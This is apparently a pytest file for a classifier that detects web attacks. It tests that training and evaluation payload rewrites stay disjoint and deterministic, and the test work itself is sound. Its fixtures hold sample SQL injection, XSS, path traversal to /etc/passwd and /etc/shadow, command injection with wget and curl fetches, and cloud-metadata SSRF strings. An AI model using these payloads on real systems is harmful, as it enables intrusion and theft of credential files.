"""Training and evaluation rewrite differently, the same seed rewrites alike, and harmless values are rewritten too."""

from collections import Counter
from random import Random
from urllib.parse import quote_plus, unquote

import pytest

from classifier.records import ATTACKS, FlowRecord, Label
from classifier.training.rewriting.rewrites import (
    VARIANTS,
    WHOLES,
    Variant,
    Whole,
    applied,
    rewrite,
    rewritten,
    variants,
)

EVERY: list[Variant | Whole] = [*VARIANTS, *WHOLES]
VALUES = {
    Label.SQLI: (
        "1' UNION SELECT name, 'abc' FROM users WHERE 1=1-- -",
        "x') or ('ab'='ab' and sleep(5)#",
        "-7 union all select null,user,3 from t where id=9",
    ),
    Label.XSS: (
        '"><img src=x onerror="alert(1)">',
        "<script>alert('x y')</script>",
        "<svg onload=confirm(document.domain) id=a><a href='javascript:prompt(2)'>b</a>",
    ),
    Label.PATH_TRAVERSAL: ("../../../etc/passwd", "/var/www/../../etc/shadow", "..\\..\\windows\\win.ini"),
    Label.COMMAND_INJECTION: (
        "; cat /etc/passwd",
        "x | wget http://10.0.0.1/a -O /tmp/a",
        "$(id) && curl http://127.0.0.1/b",
    ),
    Label.SSRF_XXE: ("http://127.0.0.1:8080/admin", "http://169.254.169.254/latest/meta-data", "//localhost/x"),
    Label.BENIGN: (
        "summer dress size 12 it's (red)",
        "somebody.else@work.example",
        "Where = is; <b>bold</b> move?",
    ),
}


def _request(value: str) -> FlowRecord:
    return FlowRecord(method="GET", path=f"/shop?id=7&q={quote_plus(value)}")


def _outputs(variant: Variant, label: Label) -> set[str]:
    """Everything the variant makes of the fixed values, by several seeds; where it changes them."""
    made = {variant.spell(value, Random(seed)) for value in VALUES[label] for seed in range(12)}
    return made - set(VALUES[label])


def test_names_are_given_once() -> None:
    names = Counter((each.family, each.name) for each in EVERY)
    assert names.most_common(1)[0][1] == 1


def test_no_function_serves_both_uses() -> None:
    functions: dict[object, set[str]] = {}
    for variant in VARIANTS:
        functions.setdefault(variant.spell, set()).add(variant.use)
    for whole in WHOLES:
        functions.setdefault(whole.change, set()).add(whole.use)
    assert all(len(uses) == 1 for uses in functions.values())


@pytest.mark.parametrize("label", VALUES)
def test_training_makes_nothing_that_the_evaluation_makes(label: Label) -> None:
    trained = {made: each.name for each in variants("training", label) for made in _outputs(each, label)}
    for variant in variants("evaluation", label):
        assert {made: trained[made] for made in _outputs(variant, label) if made in trained} == {}, variant.name


@pytest.mark.parametrize("label", VALUES)
def test_training_requests_are_none_of_the_evaluations(label: Label) -> None:
    requests = [_request(value) for value in VALUES[label]]
    judged = {
        applied(variant, request, Random(seed)).path
        for variant in variants("evaluation", label)
        for request in requests
        for seed in range(3)
    } - {request.path for request in requests}
    seen = {rewritten(request, label, Random(seed)).path for request in requests for seed in range(300)}
    assert len(seen) > 40
    assert not seen & judged


@pytest.mark.parametrize("variant", VARIANTS, ids=lambda each: f"{each.family} {each.name}")
def test_every_variant_changes_something_that_it_suits(variant: Variant) -> None:
    assert any(_outputs(variant, label) for label in variant.labels if label in VALUES)


@pytest.mark.parametrize("label", ATTACKS)
@pytest.mark.parametrize("use", ["training", "evaluation"])
def test_every_attack_has_many_rewrites(label: Label, use: str) -> None:
    found = [each for each in VARIANTS if each.use == use and label in each.labels]
    assert len({each.family for each in found}) >= 4


def test_every_family_of_the_evaluation_is_trained_in_its_own_way() -> None:
    uses = {use: {each.family for each in EVERY if each.use == use} for use in ("training", "evaluation")}
    assert uses["training"] == uses["evaluation"]


def test_harmless_values_meet_every_encoding() -> None:
    families = {each.family for each in variants("training", Label.BENIGN)}
    assert families >= {"case", "whitespace", "percent", "entities", "unicode", "base64", "junk"}
    assert "comments" not in families


@pytest.mark.parametrize("label", VALUES)
def test_the_same_seed_rewrites_alike(label: Label) -> None:
    value = VALUES[label][0]
    first = [rewrite(value, label, Random(seed)) for seed in range(20)]
    assert first == [rewrite(value, label, Random(seed)) for seed in range(20)]
    assert len(set(first)) > 5
    record = _request(value)
    assert [rewritten(record, label, Random(n)) for n in range(9)] == [
        rewritten(record, label, Random(n)) for n in range(9)
    ]


@pytest.mark.parametrize("label", [Label.PHISHING, Label.C2, Label.TRACKER])
def test_what_is_no_attack_on_a_server_stays(label: Label) -> None:
    record = _request("a b")
    assert rewritten(record, label, Random(1)) is record
    assert rewrite("a b", label, Random(1)) == "a b"


def test_only_the_suspicious_value_is_rewritten() -> None:
    for variant in variants("training", Label.SQLI):
        assert "id=7&q=" in applied(variant, _request("1' or 2=2"), Random(1)).path


def test_rewritten_text_can_be_sent() -> None:
    record = FlowRecord(path="/x?f=%c0%ae%c0%ae/", request_body=b'{"a": "../x"}')
    for seed in range(60):
        new = rewritten(record, Label.PATH_TRAVERSAL, Random(seed))
        new.path.encode()
        assert new.request_body.decode()


def test_encoding_comes_last() -> None:
    """What is percent-encoded after a rewrite still decodes to the rewrite."""
    record = _request("../../etc/passwd")
    paths = {rewritten(record, Label.PATH_TRAVERSAL, Random(seed)).path for seed in range(200)}
    decoded = {unquote(unquote(path)) for path in paths}
    assert any("....//" in path for path in decoded)


@pytest.mark.parametrize("label", [Label.SQLI, Label.XSS, Label.COMMAND_INJECTION, Label.BENIGN])
def test_values_that_stand_for_bytes_pass(label: Label) -> None:
    """A value cut from a body may hold bytes that are no text."""
    value = "<img onerror=alert('\udce2')> or 'a'='\udce2' | cat /etc/\udcff"
    for seed in range(60):
        rewrite(value, label, Random(seed))
        rewritten(FlowRecord(path=f"/?q={value}"), label, Random(seed))
